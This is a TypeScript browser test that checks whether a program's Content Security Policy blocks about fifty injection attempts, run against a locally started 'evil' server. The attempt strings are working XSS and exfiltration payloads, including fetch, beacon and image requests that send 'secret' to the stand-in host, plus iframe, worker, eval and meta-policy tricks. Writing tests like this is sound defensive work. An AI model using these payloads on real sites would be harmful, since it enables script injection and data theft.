import { afterAll, beforeAll, describe } from 'vitest';
import type { BuiltProgram } from '../../e2e/support/built-program.ts';
import { browserHost } from '../../e2e/support/browser-program.ts';
import { attackGroup, type Through } from '../attack-group.ts';
import { startEvilServer, type EvilServer } from './evil-server.ts';

/**
 * What injected markup or an injected script would try next. Each is the body of a function with `evil`, the origin of
 * another server; it sets `globalThis.pwned` when it got through, or reaches that server.
 */
const scripts: Readonly<Record<string, string>> = {
  'a script element': `const s = document.createElement('script'); s.textContent = 'globalThis.pwned = true'; document.body.append(s);`,
  'a script of another server': `const s = document.createElement('script'); s.src = evil + '/a.js'; document.body.append(s);`,
  'a module of another server': `import(evil + '/b.js').catch(() => undefined);`,
  'a module in an address': `import('data:text/javascript,globalThis.pwned = true').catch(() => undefined);`,
  'a module of bytes': `import(URL.createObjectURL(new Blob(['globalThis.pwned = true'], { type: 'text/javascript' }))).catch(() => undefined);`,
  'a script of bytes': `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['globalThis.pwned = true'])); document.body.append(s);`,
  'a handler in markup': `document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="globalThis.pwned = true">');`,
  'a handler in an attribute': `const b = document.createElement('b'); b.setAttribute('onclick', 'globalThis.pwned = true'); document.body.append(b); b.click(); b.remove();`,
  'a link with a script': `const a = document.createElement('a'); a.href = 'javascript:globalThis.pwned = true'; document.body.append(a); a.click(); a.remove();`,
  'a place with a script': `location.href = 'javascript:void(globalThis.pwned = true)';`,
  'a text as code': `try { eval('globalThis.pwned = true'); } catch {}`,
  'a text as a function': `try { new Function('globalThis.pwned = true')(); } catch {}`,
  'a text as a timer': `try { setTimeout('globalThis.pwned = true', 0); } catch {}`,
  'a text as a generator': `try { Object.getPrototypeOf(function* () {}).constructor('globalThis.pwned = true')().next(); } catch {}`,
  WebAssembly: `try { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); globalThis.pwned = true; } catch {}`,
  'WebAssembly as it comes': `WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => { globalThis.pwned = true; }, () => undefined);`,
  'a worker of bytes': `try { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => { globalThis.pwned = true; }; } catch {}`,
  'a worker in an address': `try { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => { globalThis.pwned = true; }; } catch {}`,
  'a shared worker of bytes': `try { new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + evil + '/shared")']))); } catch {}`,
  'a style element': `const s = document.createElement('style'); s.textContent = '#root { outline: 7px solid red }'; document.head.append(s); if (getComputedStyle(document.querySelector('#root')).outlineWidth === '7px') globalThis.pwned = true;`,
  'a style in markup': `document.body.insertAdjacentHTML('beforeend', '<p id="styled" style="outline: 7px solid red">x</p>'); const p = document.querySelector('#styled'); if (getComputedStyle(p).outlineWidth === '7px') globalThis.pwned = true; p.remove();`,
  'a style of another server': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = evil + '/a.css'; document.head.append(l);`,
  'a style in an address': `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'data:text/css,%23root{outline:7px solid red}'; l.onload = () => { globalThis.pwned = true; }; document.head.append(l);`,
  'a picture of another server': `new Image().src = evil + '/a.png?secret';`,
  'a picture in a style': `const p = document.createElement('p'); p.style.backgroundImage = 'url(' + evil + '/style.png)'; document.body.append(p); p.getBoundingClientRect();`,
  'a font of another server': `const f = new FontFace('evil', 'url(' + evil + '/a.woff2)'); document.fonts.add(f); f.load().catch(() => undefined);`,
  'a request': `fetch(evil + '/fetch?secret').catch(() => undefined);`,
  'a request without an answer': `fetch(evil + '/no-cors', { mode: 'no-cors' }).catch(() => undefined);`,
  'an old request': `try { const x = new XMLHttpRequest(); x.open('GET', evil + '/xhr'); x.send(); } catch {}`,
  'a beacon': `navigator.sendBeacon(evil + '/beacon', 'secret');`,
  'a socket': `try { const s = new WebSocket(evil.replace('http', 'ws') + '/socket'); s.onopen = () => { globalThis.pwned = true; }; } catch {}`,
  'a stream of events': `try { new EventSource(evil + '/a.sse'); } catch {}`,
  'a sound': `new Audio(evil + '/a.mp3').play().catch(() => undefined);`,
  'a film': `const v = document.createElement('video'); v.src = evil + '/a.mp4'; v.autoplay = true; v.muted = true; document.body.append(v);`,
  'a frame of another server': `const f = document.createElement('iframe'); f.src = evil + '/frame.html'; document.body.append(f);`,
  'a frame with its page in an attribute': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.pwned = true</script><img src="' + evil + '/srcdoc.png">'; document.body.append(f);`,
  'a frame with a script for an address': `const f = document.createElement('iframe'); f.src = 'javascript:parent.pwned = true'; document.body.append(f);`,
  'a frame in an address': `const f = document.createElement('iframe'); f.src = 'data:text/html,<script>fetch("' + evil + '/data-frame")</script>'; document.body.append(f);`,
  'a frame of bytes': `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<script>parent.pwned = true</script>'], { type: 'text/html' })); document.body.append(f);`,
  'an object': `document.body.insertAdjacentHTML('beforeend', '<object data="' + evil + '/object.html"></object>');`,
  'an embedded thing': `document.body.insertAdjacentHTML('beforeend', '<embed src="' + evil + '/embed.html">');`,
  'another base for all addresses': `const b = document.createElement('base'); b.href = evil + '/'; document.head.prepend(b); new Image().src = 'based.png'; if (document.baseURI.startsWith(evil)) globalThis.pwned = true; b.remove();`,
  'a form': `const f = document.createElement('form'); f.action = evil + '/form'; f.method = 'post'; document.body.append(f); f.submit(); f.remove();`,
  'a form of its own page': `const f = document.createElement('form'); f.action = '/session'; f.method = 'post'; document.body.append(f); f.submit(); f.remove();`,
  'a manifest': `const l = document.createElement('link'); l.rel = 'manifest'; l.href = evil + '/manifest.json'; document.head.append(l);`,
  'something to fetch ahead': `for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon']) { const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = evil + '/' + rel + '.js'; document.head.append(l); }`,
  'a part of a vector picture': `document.body.insertAdjacentHTML('beforeend', '<svg><use href="' + evil + '/use.svg#x"></use><image href="' + evil + '/image.png"></image></svg>');`,
  'a looser policy': `const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = "default-src * 'unsafe-inline' 'unsafe-eval'"; document.head.append(m); new Image().src = evil + '/after-meta.png';`,
};

/** Time that each attempt has to get through. Milliseconds. */
const patience = process.env['CO_DESK_SECURITY'] === 'full' ? '150' : '30';

describe.skipIf(browserHost.obstacle !== null)('in a real browser', () => {
  let program: BuiltProgram;
  let evil: EvilServer;

  beforeAll(async () => {
    evil = await startEvilServer();
    program = await browserHost.open({});
    await program.page.locator('#root > *').first().waitFor();
  });
  afterAll(async () => {
    await program.discard();
    await evil.close();
  });

  /** Runs a script in a timer, because the policy may not apply to what a test driver runs directly. */
  async function play(script: string): Promise<Through> {
    const { page } = program;
    const address = page.url();
    const isPwned = await page.evaluate<boolean>(`new Promise((resolve) => {
      delete globalThis.pwned;
      setTimeout(() => {
        ((evil) => { ${script} })(${JSON.stringify(evil.origin)});
        setTimeout(() => resolve('pwned' in globalThis), ${patience});
      }, 0);
    })`);
    const arrived = evil.arrived();
    if (page.url() !== address) return `The page is at ${page.url()}.`;
    if (arrived.length > 0) return `It reached ${arrived.join(', ')}.`;
    return isPwned ? 'It ran.' : null;
  }

  attackGroup('what the content policy forbids', (attack) => {
    for (const [what, script] of Object.entries(scripts)) attack(what, () => play(script));

    attack('a page that broke under all this', async () => {
      const state = await program.page.evaluate(() => document.querySelector('#root > *') !== null);
      return state ? null : 'The page is gone.';
    });
  });
});
